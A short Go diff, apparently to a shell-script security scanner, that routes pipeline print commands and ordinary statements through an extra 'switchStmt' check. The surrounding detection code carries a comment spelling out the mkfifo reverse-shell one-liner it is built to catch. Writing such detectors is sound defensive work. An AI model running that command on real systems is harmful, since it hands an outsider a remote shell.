@@ -354,6 +354,11 @@ func (s *shScan) pipeline(stages []*syntax.Stmt, lineOff int) {
 	}
 	line := s.lineOf(stages[0], lineOff)
 	s.pipedStdinCode(stages, calls, ok, lineOff)
+	for i := 0; i+1 < len(stages); i++ {
+		if ok[i] && printCmd(calls[i].name) {
+			s.switchStmt(stages[i], calls[i], true, s.lineOf(stages[i], lineOff), lineOff, true)
+		}
+	}
 	// a network tool and a shell in one pipeline, in either order: a
 	// reverse shell (the mkfifo form: cat f | sh -i | nc host port > f)
 	shell, net := "", ""
@@ -439,6 +444,7 @@ func (s *shScan) stmt(st *syntax.Stmt, lineOff int) {
 	c, ok := s.callOf(st)
 	s.systemStmt(st, c, ok, line)
 	s.remoteStmt(st, c, ok, line)
+	s.switchStmt(st, c, ok, line, lineOff, false)
 	if ok {
 		s.registryCall(line, c)
 		s.agentWrite(line, c)
